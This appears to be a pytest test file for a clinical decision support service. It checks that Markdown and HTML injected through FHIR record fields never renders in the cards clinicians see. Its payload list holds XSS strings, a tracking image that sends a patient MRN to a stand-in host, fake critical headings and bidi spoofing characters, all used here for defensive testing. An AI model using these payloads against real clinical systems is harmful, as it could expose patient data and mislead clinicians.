"""FHIR text is data, never Markdown or HTML (issue 25): an injection corpus through eight FHIR fields.

Each payload goes into one field of a pregnant patient's record on mycophenolate (a critical P2 card), and the
answer's rendered fields (summary, detail, suggestion labels, action descriptions, link labels) are parsed
with a CommonMark parser, as an EHR renders them: no link or image the clean answer lacks, no HTML, no block
the clean card lacks, no control or bidi character; the critical card is still there, and the payload's text
still reaches the card (each payload carries a marker the test looks for). The FHIR resources a card sends
back in an update action and the SMART app's ``appContext`` are data for programs, not rendered text, and are
not checked here.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable, Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from cds_service.sandbox.requests import build_request
from tests.support import make_app

SIGN = "/cds-services/tacrolimus-order-sign"
MARK = "zqmark"
FORBIDDEN = {"link_open", "image", "html_inline", "html_block"}
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
"""Control and bidi characters (a rendered field may hold ``\\n`` only in ``detail``, between its lines)."""
MARKDOWN = MarkdownIt("commonmark", {"html": True})  # as an EHR with HTML on (the official Sandbox) reads it

PAYLOADS = [
    "mycophenolate ![p](https://tracker.example/p.png?mrn=MRN-1) <img src=x onerror=alert(1)>\n"
    "# FAKE CRITICAL: STOP ALL MEDS",
    "<img src=x onerror=alert(1)>",
    "\n# FAKE CRITICAL: STOP ALL MEDS",
    "# heading at the start",
    "[click](javascript:alert(1))",
    "[site](https://tracker.example/)",
    "<script>alert(1)</script>",
    "<https://tracker.example/autolink>",
    "<a href='https://tracker.example'>x</a>",
    "<iframe src='https://tracker.example'></iframe>",
    "<svg onload=alert(1)>",
    "<!-- hidden comment -->",
    "\\<img src=x onerror=alert(1)>",
    "&#60;img src=x onerror=alert(1)&#62;",
    "[ref]: https://tracker.example/\n[ref]",
    "![alt][img]\n\n[img]: https://tracker.example/x.png",
    "[x](<https://tracker.example> 'title')",
    "\n\n- a fake list item",
    "- a list at the start",
    "1. a numbered step",
    "\n> a fake quote",
    "> a quote at the start",
    "\n```\nfenced\n```",
    "\n    indented code",
    "\n---\nafter a rule",
    "text\n===",
    "a | b\n--|--\nc | d",
    "*italic* and _under_ and **strong** and ~~strike~~",
    "`code span`",
    "trailing backslash \\",
    "\u202egnp.exe (right-to-left override)",
    "\u2066isolated\u2069 \u200fmark",
    "bell\x07 escape\x1b[31m red null\x00",
    "next line\x85(C1) and\u2028line separator\u2029",
    "\r\n## heading after CRLF",
    "zero\u200bwidth\ufeff",
]


def _resource(body: dict, key: str, rid: str) -> dict:
    return next(e["resource"] for e in body["prefetch"][key]["entry"] if e["resource"]["id"] == rid)


def _medication_text(body: dict, text: str) -> None:
    _resource(body, "medications", "pregflare-mr-2")["medicationCodeableConcept"]["text"] = text


def _medication_display(body: dict, text: str) -> None:
    concept = _resource(body, "medications", "pregflare-mr-2")["medicationCodeableConcept"]
    concept.pop("text")
    concept["coding"][0]["display"] = text


def _condition_text(body: dict, text: str) -> None:
    _resource(body, "conditions", "pregflare-pregnancy-1")["code"]["text"] = text


def _condition_display(body: dict, text: str) -> None:
    concept = _resource(body, "conditions", "pregflare-pregnancy-1")["code"]
    concept.pop("text")
    for coding in concept["coding"]:
        coding["display"] = text


def _observation_unit(body: dict, text: str) -> None:
    """hCG recorded in IU/mL: the card shows it converted, with the unit as recorded."""
    quantity = _resource(body, "observations", "pregflare-hcg-beta-1")["valueQuantity"]
    quantity.update(value=3.25, code="[IU]/mL", unit=text)


def _left_out_id(body: dict, text: str) -> None:
    """A stored order whose drug cannot be read is named, by its id, among the resources left out."""
    order = copy.deepcopy(_resource(body, "medications", "pregflare-mr-2"))
    order["id"] = text
    order["medicationCodeableConcept"]["coding"] = 7
    body["prefetch"]["medications"]["entry"].append({"resource": order})


def _allergy_text(body: dict, text: str) -> None:
    rituximab = {"system": "http://www.nlm.nih.gov/research/umls/rxnorm", "code": "121191"}
    allergy = {
        "resourceType": "AllergyIntolerance",
        "id": "alg-1",
        "patient": {"reference": "Patient/pregflare-pat"},
        "code": {"coding": [rituximab], "text": text},
    }
    body["prefetch"]["allergies"] = {
        "resourceType": "Bundle",
        "type": "searchset",
        "entry": [{"resource": allergy}],
    }


def _draft_text(body: dict, text: str) -> None:
    """The triggering order known only by its text: every card names it once ("About this order")."""
    concept = body["context"]["draftOrders"]["entry"][0]["resource"]["medicationCodeableConcept"]
    concept.pop("coding")
    concept["text"] = f"tacrolimus 1 mg {text}"


FIELDS: dict[str, Callable[[dict, str], None]] = {
    "medication-text": _medication_text,
    "medication-display": _medication_display,
    "condition-text": _condition_text,
    "condition-display": _condition_display,
    "observation-unit": _observation_unit,
    "left-out-id": _left_out_id,
    "allergy-text": _allergy_text,
    "draft-order-text": _draft_text,
}


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    return make_app(tmp_path_factory.mktemp("injection"), hold_repeats={"enabled": False}).test_client()


@pytest.fixture(scope="module")
def clean(client) -> dict[str, dict]:
    """The answer without any payload, card by topic."""
    return {card["source"]["topic"]["code"]: card for card in _cards(client, _request())}


def _request() -> dict:
    return copy.deepcopy(_BASE)


_BASE = build_request("pregnant-ln-flare-on-mmf", hook="order-sign")


def _cards(client, body: dict) -> list[dict]:
    response = client.post(SIGN, json=body)
    assert response.status_code == 200, response.get_json()
    return response.get_json()["cards"]


def _rendered_fields(card: dict) -> Iterator[tuple[str, str]]:
    """(field, text) for every field of a card an EHR shows as text or Markdown."""
    yield "summary", card["summary"]
    yield "detail", card.get("detail", "")
    yield "source.label", card["source"]["label"]
    for suggestion in card.get("suggestions", []):
        yield "suggestion.label", suggestion["label"]
        for action in suggestion["actions"]:
            yield "action.description", action["description"]
    for link in card.get("links", []):
        yield "link.label", link["label"]


def _tokens(text: str) -> list[Token]:
    found = []
    for token in MARKDOWN.parse(text):
        found.append(token)
        found.extend(token.children or [])
    return found


def _blocks(text: str) -> set[str]:
    return {t.type for t in MARKDOWN.parse(text)}


def _problems(card: dict, clean_card: dict) -> list[str]:
    problems = []
    for field, text in _rendered_fields(card):
        if UNSEEN.search(text) or (field != "detail" and "\n" in text):
            problems.append(f"{field} holds a control or bidi character: {text[:120]!r}")
        kinds = {t.type for t in _tokens(text)}
        if kinds & FORBIDDEN:
            problems.append(f"{field} renders {sorted(kinds & FORBIDDEN)}: {text[:200]!r}")
        allowed = (
            _blocks(clean_card["detail"])
            if field == "detail"
            else {"paragraph_open", "paragraph_close", "inline"}
        )
        if _blocks(text) - allowed:
            problems.append(f"{field} renders blocks {sorted(_blocks(text) - allowed)}: {text[:200]!r}")
    if [link["url"] for link in card.get("links", [])] != [
        link["url"] for link in clean_card.get("links", [])
    ]:
        problems.append("the card's links differ from the clean card's")
    return problems


def _visible_text(card: dict) -> str:
    """What a clinician reads: every rendered field as Markdown, then the text of the HTML."""
    html = " ".join(MARKDOWN.render(text) for _, text in _rendered_fields(card))
    return re.sub(r"<[^>]*>", "", html).replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
def test_fhir_text_never_becomes_markup_and_the_critical_card_stays(client, clean, field, payload):
    body = _request()
    FIELDS[field](body, f"{payload} {MARK}")
    cards = _cards(client, body)
    by_topic = {card["source"]["topic"]["code"]: card for card in cards}
    assert by_topic.keys() == clean.keys()
    assert by_topic["pregnancy"]["indicator"] == "critical"
    assert any(
        item["id"] == "P2"
        for item in by_topic["pregnancy"]["extension"]["org.example.tacrolimus-cds.findings"]
    )
    problems = [p for topic, card in by_topic.items() for p in _problems(card, clean[topic])]
    assert not problems, problems
    assert any(MARK in _visible_text(card) for card in cards), "the payload never reached a rendered field"


@pytest.mark.parametrize("field", ["medication-text", "condition-text", "allergy-text", "left-out-id"])
def test_a_name_with_markdown_characters_still_reads_as_typed(client, field):
    typed = "tacro*limus* my_co_phen_olate [x] <y> #1 ~z~ \\ & `q`"
    body = _request()
    FIELDS[field](body, typed)
    cards = _cards(client, body)
    assert any(typed in _visible_text(card) for card in cards)


def test_an_overlong_name_is_cut_with_an_ellipsis(client):
    body = _request()
    _medication_text(body, "mycophenolate " + "x" * 20_000)
    card = next(c for c in _cards(client, body) if c["indicator"] == "critical")
    assert len(card["summary"]) < 140
    assert "x" * 20_000 not in card["detail"]
    assert "mycophenolate xxx" in card["detail"] and "…" in card["detail"]
    assert len(card["detail"]) < 8_000
